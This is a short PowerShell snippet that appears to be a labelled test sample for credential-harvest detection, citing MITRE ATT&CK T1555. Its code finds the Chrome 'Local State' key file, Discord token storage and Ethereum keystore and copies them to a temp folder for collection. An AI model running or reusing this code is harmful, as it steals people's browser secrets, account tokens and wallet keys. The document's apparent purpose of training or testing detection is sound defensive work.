# expect: credential-harvest | source: MITRE ATT&CK T1555
$places = "$env:LOCALAPPDATA\Google\Chrome\User Data\Local State", "$env:APPDATA\discord\Local Storage\leveldb", "$env:APPDATA\Ethereum\keystore"
foreach ($p in $places) { if (Test-Path $p) { Copy-Item $p "$env:TEMP\out" -Recurse } }
